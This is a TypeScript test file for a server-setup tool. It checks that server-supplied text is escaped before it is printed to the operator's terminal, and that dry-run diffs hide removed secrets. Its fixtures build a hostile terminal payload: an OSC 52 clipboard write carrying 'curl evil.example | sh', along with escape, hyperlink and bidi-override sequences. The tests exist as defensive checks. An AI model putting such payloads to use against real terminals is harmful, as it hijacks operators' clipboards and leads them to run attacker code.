// Issue 23 "Lower": text from the server reached the terminal raw (an OSC 52 clipboard write in a
// channel name, a docker log line or a file on the server acts on the operator's terminal), and
// the live --dry-run printed a removed secret in clear. Both checked where the text is printed.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { isTerminalSafe, terminalSafe } from '../src/core/terminal-text.js';
import { describeError, StepFailedError } from '../src/core/errors.js';
import { Secret, secretText } from '../src/core/secret.js';
import { RecordingExecutor } from '../src/exec/recording.js';
import { run, write, type Plan } from '../src/plan/action.js';
import { formatStatus, parseStatus } from '../src/plan/status.js';
import { fileDiff, previewPlan } from '../src/rollout/preview.js';
import { runPlan } from '../src/rollout/runner.js';
import type { RolloutEvent } from '../src/rollout/events.js';
import { eventPrinter } from '../src/rollout/event-lines.js';

/** OSC 52: "set the clipboard to base64(...)"; a paste then runs the attacker's command. */
const OSC52 = `\x1b]52;c;${Buffer.from('curl evil.example | sh\n').toString('base64')}\x07`;
const HOSTILE = `${OSC52}\x1b[2K\x1b[1A\r\x9b31mred\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\u202eevil\u0000`;
const hasControl = (s: string) => /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/.test(s);

describe('terminalSafe', () => {
  it('shows an OSC 52 clipboard write as text: no ESC, no BEL reaches the terminal', () => {
    const out = terminalSafe(`channel ${OSC52} done`);
    expect(out).not.toContain('\x1b');
    expect(out).not.toContain('\x07');
    expect(out).toContain('\\u001b]52;c;');
    expect(out).toContain('\\u0007 done');
  });

  it('escapes CSI, 8-bit CSI, OSC 8, CR, NUL and bidi overrides; keeps newline, tab and ordinary unicode', () => {
    const out = terminalSafe(`${HOSTILE}\nkept\ttab é ✓ 日本\r\n`);
    expect(hasControl(out.replace(/[\n\t]/g, ''))).toBe(false);
    expect(out).toContain('\\u009b31mred');
    expect(out).toContain('\\u202eevil\\u0000');
    expect(out.endsWith('\nkept\ttab é ✓ 日本\n')).toBe(true);
    expect(isTerminalSafe(out)).toBe(true);
    expect(isTerminalSafe(HOSTILE)).toBe(false);
  });

  it('keeps JSON valid and equal (status/audit --json): the escape decodes to the same character', () => {
    const v = { channel: `x\x9by${OSC52}` };
    const safe = terminalSafe(JSON.stringify(v));
    expect(isTerminalSafe(safe)).toBe(true);
    expect(JSON.parse(safe)).toEqual(v);
  });

  it('changes nothing in what claw-setup itself prints: every golden file passes through unchanged', () => {
    const root = new URL('../snapshots/', import.meta.url).pathname;
    const files = (d: string): string[] => readdirSync(d).flatMap((n) => (statSync(join(d, n)).isDirectory() ? files(join(d, n)) : [join(d, n)]));
    const all = files(root);
    expect(all.length).toBeGreaterThan(50);
    for (const f of all) {
      const text = readFileSync(f, 'utf8');
      expect(terminalSafe(text) === text || text.includes('\r\n'), f).toBe(true);
    }
  });
});

describe('where server text is printed', () => {
  it('a failing command: its output lines and the failure report carry no escape sequence', async () => {
    const plan: Plan = { header: [], steps: [{ id: 'openclaw', title: 't', summary: [], actions: [run('start the gateway', ['docker', 'compose', 'up'])] }] };
    const ex = new RecordingExecutor((c) => (c.op === 'run' && c.purpose === 'action' ? { code: 1, stderr: `gateway log: ${HOSTILE}\n` } : undefined));
    const events: RolloutEvent[] = [];
    const result = await runPlan(plan, ex, (e) => events.push(e), { secrets: [], wait: async () => {} });
    expect(result.status).toBe('failed');
    const print = eventPrinter();
    const printed = events.map((e) => print(e) ?? '').join('\n');
    expect(printed).toContain('\\u001b]52;c;');
    expect(hasControl(printed.replace(/\n/g, ''))).toBe(false);
    expect(hasControl(result.report.join(''))).toBe(false);
    const d = describeError(new StepFailedError(result.report[0], [...result.report.slice(1), `docker logs: ${OSC52}`]));
    expect(hasControl(d.text.replace(/\n/g, ''))).toBe(false);
    expect(d.text).toContain('\\u001b]52');
  });

  it('the live dry run: a file the container wrote prints as text in the diff', async () => {
    const path = '/home/deploy/openclaw/config/openclaw.json';
    const plan: Plan = { header: [], steps: [{ id: 'openclaw', title: 't', summary: [], actions: [write(path, '{}\n', { mode: 0o600 })] }] };
    const ex = new RecordingExecutor((c) => {
      if (c.op === 'run' && c.argv.join(' ').includes('base64 -w0'))
        return { code: 0, stdout: `claw-file ${path} ${Buffer.from(`{"channels":{"${OSC52}":{}}}\n`).toString('base64')}\n` };
      return { code: 0, stdout: '' };
    });
    const pv = await previewPlan(plan, ex, 'h');
    expect(pv.text).toContain('\\u001b]52;c;');
    expect(hasControl(pv.text.replace(/\n/g, ''))).toBe(false);
  });

  it('status: a channel named with an escape sequence is a harmless string (then printed through terminalSafe)', () => {
    const config = Buffer.from(JSON.stringify({ channels: { [`tg${OSC52}`]: {} } })).toString('base64');
    const out = ['@@claw:config@@', config, '@@claw:end@@'].join('\n');
    const lines = formatStatus(parseStatus(out)).map(terminalSafe);
    expect(lines.find((l) => l.startsWith('channels'))).toContain('tg\\u001b]52');
    expect(hasControl(lines.join(''))).toBe(false);
  });
});

describe('the live dry run masks a secret the run removes (old side), not only the new values', () => {
  it('monitoring.env: a Discord webhook dropped from the answers is never printed (no secret left on the new side)', () => {
    const w = write('/etc/claw-setup/monitoring.env', 'NTFY_SERVER=https://ntfy.sh\n', { mode: 0o600 });
    const now = 'NTFY_SERVER=https://ntfy.sh\nDISCORD_WEBHOOK_URL=https://discord.com/api/webhooks/1/hook-sentinel-77\n';
    const d = fileDiff(w, now);
    expect(d).not.toContain('hook-sentinel-77');
    expect(d).toContain('-DISCORD_WEBHOOK_URL=<secret: differs>');
  });

  it('with a secret kept on the new side, the removed one is hidden too', () => {
    const topic = Secret.of('NTFY_TOPIC', 'topic-sentinel-55', 'test');
    const w = write('/etc/claw-setup/monitoring.env', secretText`NTFY_SERVER=https://ntfy.sh\nNTFY_TOPIC=${topic}\n`, { mode: 0o600 });
    const d = fileDiff(w, 'NTFY_SERVER=https://ntfy.sh\nNTFY_TOPIC=topic-sentinel-55\nDISCORD_WEBHOOK_URL=https://x.example/hook-sentinel-78\n');
    expect(d).not.toMatch(/hook-sentinel-78|topic-sentinel-55/);
  });

  it('an env file whose new content holds no secret at all (S3 switched to SFTP): the old keys stay hidden', () => {
    const w = write('/etc/claw-setup/offsite/restic.env', 'RESTIC_REPOSITORY=sftp:u1@box.example:/b\n', { mode: 0o600 });
    const now =
      "RESTIC_REPOSITORY=s3:https://s3.example/b\nAWS_ACCESS_KEY_ID=AKIA-sentinel-1\nexport AWS_SECRET_ACCESS_KEY='aws-sentinel-2'\n# old: aws-sentinel-3\n";
    const d = fileDiff(w, now);
    for (const s of ['AKIA-sentinel-1', 'aws-sentinel-2', 'aws-sentinel-3', 's3:https://s3.example']) expect(d, s).not.toContain(s);
    expect(d).toContain('-AWS_SECRET_ACCESS_KEY=<secret: differs>');
    expect(d).toContain('+RESTIC_REPOSITORY=sftp:u1@box.example:/b');
  });

  it('a file that is not env-like and holds no secret still shows its real diff', () => {
    const d = fileDiff(write('/etc/fail2ban/jail.d/claw-setup.local', '[sshd]\nmaxretry = 5\n', { mode: 0o644 }), '[sshd]\nmaxretry = 9\n');
    expect(d).toContain('-maxretry = 9');
  });
});
